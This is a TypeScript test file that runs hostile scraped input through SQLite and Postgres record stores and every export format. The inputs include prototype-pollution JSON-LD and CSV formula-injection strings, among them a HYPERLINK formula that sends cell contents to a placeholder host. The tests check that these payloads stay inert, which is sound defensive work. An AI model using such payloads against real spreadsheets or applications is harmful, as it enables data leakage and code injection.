import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SqliteDb } from '../../src/sqlite/db.js'
import type { RecordRow, RecordStore, StoredRecord, WriteStatus } from '../../src/store/record-store.js'
import { migrateStore } from '../../src/store/sqlite/schema.js'
import type { Json } from '../../src/url/link.js'
import { batch, record } from '../contract/record-store-contract.js'
import { type PostgresServer, startPostgres } from '../support/postgres-server.js'
import { sqliteStoreOn } from '../support/sqlite-store.js'
import { emptyPostgresStore } from './postgres/opened.js'
import {
  csvColumn,
  exportedBytes,
  exportedText,
  parseCsv,
  readParquet,
  throughPsql,
  throughSqlite,
} from './read-exports.js'

/** What hostile and broken pages put into records, through both stores and out again in every format. */

let postgres: PostgresServer
beforeAll(async () => {
  postgres = await startPostgres()
})
afterAll(() => postgres.end())

async function sqliteStore(): Promise<RecordStore> {
  const db = new SqliteDb(':memory:')
  migrateStore(db)
  return sqliteStoreOn(db)
}

const STORES: [string, () => Promise<RecordStore>][] = [
  ['sqlite', sqliteStore],
  ['postgres', () => emptyPostgresStore(postgres.address())],
]

/** As a page gives it: parsed, not written as a literal. */
const JSON_LD = JSON.parse(
  `{"@type":"Book","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},
    "offers":{"__proto__":{"polluted":"yes"},"price":1e400000},"name":"first","name":"second"}`,
) as Json
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("http://a.example?"&A1,"x")',
  '＝1',
]
const LONG_URL = `https://books.example/?q=${'x'.repeat(3000)}`
const sha256 = (text: string) => `sha256:${createHash('sha256').update(text).digest('hex')}`

describe.each(STORES)('%s: bad input', (_name, open) => {
  async function stored(...rows: Partial<RecordRow>[]): Promise<{
    store: RecordStore
    statuses: WriteStatus[]
    records: StoredRecord[]
  }> {
    const store = await open()
    const statuses = await store.records.write(
      batch({ records: rows.map((row, n) => record({ key: `k${n}`, ...row })) }),
    )
    const records: StoredRecord[] = []
    for await (const one of store.records.scan({})) records.push(one)
    return { store, statuses, records: records.sort((a, b) => (a.key < b.key ? -1 : 1)) }
  }

  /** The same rows in each format, by the names that SQL gives the columns. */
  async function outlets(store: RecordStore) {
    const sql = await exportedText(store.records, 'sql')
    const lines = (await exportedText(store.records, 'jsonl')).trimEnd().split('\n')
    const byKey = (a: { key: string }, b: { key: string }) => (a.key < b.key ? -1 : 1)
    return {
      jsonl: lines.map((line) => JSON.parse(line) as { key: string; url: string; data: Json }).sort(byKey),
      csv: parseCsv(await exportedText(store.records, 'csv')),
      parquet: (await readParquet(await exportedBytes(store.records, 'parquet'))).sort((a, b) =>
        String(a._key) < String(b._key) ? -1 : 1,
      ),
      sqlite: throughSqlite(sql, 'books_book'),
      psql: await throughPsql(sql, 'books_book', await postgres.createDatabase()),
    }
  }

  it('JSON-LD with __proto__, constructor.prototype, 1e400000 and doubled keys is data, and nothing else', async () => {
    const { store, statuses, records } = await stored({ data: JSON_LD })
    expect(statuses).toEqual(['written'])
    const proto = JSON.parse('{"polluted":"yes"}') as Json
    const expected = JSON.parse(JSON.stringify(JSON_LD)) as Record<string, Json>
    expect(records[0]?.data).toEqual(expected)
    expect(Object.getOwnPropertyDescriptor(records[0]?.data, '__proto__')?.value).toEqual(proto)
    expect(expected.name).toBe('second')

    const { jsonl, csv, parquet, sqlite, psql } = await outlets(store)
    expect(JSON.stringify(jsonl[0]?.data)).toContain('"__proto__":{"polluted":"yes"}')
    expect(JSON.parse(csvColumn(csv, '__proto__')[0])).toEqual(proto)
    expect(csvColumn(csv, 'name')).toEqual(['second'])
    const offers = expect.stringContaining('"__proto__":{"polluted":"yes"}')
    for (const row of [sqlite[0], psql[0]]) {
      expect(Object.getOwnPropertyDescriptor(row, '__proto__')?.value).toBe('{"polluted":"yes"}')
      expect(row?.offers).toEqual(offers)
    }
    expect(Object.getOwnPropertyDescriptor(parquet[0], '__proto__')?.value).toEqual(proto)
    expect(JSON.stringify(parquet[0]?.offers)).toEqual(offers)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    await store.close()
  })

  it('text that starts like a formula is harmless in a spreadsheet and itself everywhere else', async () => {
    const { store } = await stored(...FORMULAS.map((text, n) => ({ key: `${n}${text}`, data: { text, [text]: n } })))
    const { jsonl, csv, parquet, sqlite, psql } = await outlets(store)
    expect(csvColumn(csv, 'text').sort()).toEqual(FORMULAS.map((text) => `'${text}`).sort())
    for (const cell of csv.flat()) expect(cell).not.toMatch(/^[=+@\t\r\n＝]/)
    expect(jsonl.map(({ data }) => (data as { text: string }).text)).toEqual(FORMULAS)
    for (const rows of [parquet, sqlite, psql]) expect(rows.map(({ text }) => text)).toEqual(FORMULAS)
    await store.close()
  })

  it('NUL and lone surrogates are replaced, in keys, URLs, values and names of fields', async () => {
    const broken = 'a\0b\ud800c\udc00d'
    const whole = 'a\ufffdb\ufffdc\ufffdd'
    const data: Json = { [broken]: broken, list: [broken, '\u{1f600}'], text: '\\u0000 \\ud800' }
    const { store, statuses, records } = await stored({ key: broken, url: `https://books.example/${broken}`, data })
    expect(statuses).toEqual(['written'])
    const clean = { [whole]: whole, list: [whole, '\u{1f600}'], text: '\\u0000 \\ud800' }
    expect(records).toMatchObject([{ key: whole, url: `https://books.example/${whole}`, data: clean }])
    const { jsonl, csv, parquet, sqlite, psql } = await outlets(store)
    expect(jsonl).toMatchObject([{ key: whole, data: clean }])
    expect(csvColumn(csv, whole)).toEqual([whole])
    expect(csvColumn(csv, '_key')).toEqual([whole])
    expect(parquet).toMatchObject([{ _key: whole, ...clean }])
    for (const rows of [sqlite, psql])
      expect(rows).toMatchObject([{ _key: whole, [whole]: whole, list: JSON.stringify(clean.list), text: clean.text }])
    await store.close()
  })

  it('a URL of 3,000 bytes is a key by its hash, and whole where it is a URL or data', async () => {
    const long = { key: LONG_URL, url: LONG_URL, data: { link: LONG_URL } }
    const { store, statuses, records } = await stored(long, { ...long, key: `${LONG_URL}&page=2` })
    expect(statuses).toEqual(['written', 'written'])
    const keys = [sha256(LONG_URL), sha256(`${LONG_URL}&page=2`)].sort()
    expect(records.map(({ key }) => key)).toEqual(keys)
    const found: StoredRecord[] = []
    for await (const one of store.records.scan({ key: LONG_URL })) found.push(one)
    for await (const one of store.records.scan({ url: LONG_URL, limit: 1 })) found.push(one)
    expect(found).toMatchObject([
      { key: sha256(LONG_URL), url: LONG_URL },
      { url: LONG_URL, data: { link: LONG_URL } },
    ])
    const { jsonl, csv, parquet, sqlite, psql } = await outlets(store)
    expect(jsonl.map(({ key, url }) => [key, url])).toEqual(keys.map((key) => [key, LONG_URL]))
    expect(csvColumn(csv, '_key').sort()).toEqual(keys)
    for (const rows of [parquet, sqlite, psql]) {
      expect(rows.map(({ _key }) => _key)).toEqual(keys)
      for (const row of rows) expect(row).toMatchObject({ _url: LONG_URL, link: LONG_URL })
    }
    await store.close()
  })

  it('the same key twice in one batch is one record, with what came last', async () => {
    const { store, statuses, records } = await stored(
      { key: 'same', data: { n: 1 } },
      { key: 'other', data: { n: 2 } },
      { key: 'same', data: { n: 3 } },
      { key: LONG_URL, data: { n: 4 } },
      { key: LONG_URL, data: { n: 5 } },
    )
    expect(statuses).toEqual(['written', 'written', 'written', 'written', 'written'])
    expect(records.map(({ key, data }) => [key, data])).toEqual([
      ['other', { n: 2 }],
      ['same', { n: 3 }],
      [sha256(LONG_URL), { n: 5 }],
    ])
    const { jsonl, csv, parquet, sqlite, psql } = await outlets(store)
    expect(jsonl.map(({ data }) => data)).toEqual([{ n: 2 }, { n: 3 }, { n: 5 }])
    expect(csvColumn(csv, 'n').sort()).toEqual(['2', '3', '5'])
    expect(parquet.map(({ n }) => n)).toEqual([2n, 3n, 5n])
    for (const rows of [sqlite, psql]) expect(rows.map(({ n }) => n)).toEqual([2, 3, 5])
    await store.close()
  })

  it('what cannot be stored is put aside with its reason and costs its neighbours nothing', async () => {
    let deep: Json = 1
    for (let level = 0; level < 60_000; level++) deep = [deep]
    const { store, statuses } = await stored(
      { data: 'good' },
      { data: deep },
      { data: 'x'.repeat(300_000) },
      { data: 2 },
    )
    expect(statuses).toEqual(['written', 'quarantined', 'quarantined', 'written'])
    const reasons: string[] = []
    for await (const { issues } of store.records.rejected({ limit: 10 })) reasons.push(issues[0]?.message ?? '')
    expect(reasons.sort()).toEqual([expect.stringContaining('deeper than'), expect.stringContaining('larger than')])
    expect(csvColumn((await outlets(store)).csv, 'value').sort()).toEqual(['2', 'good'])
    await store.close()
  })
})
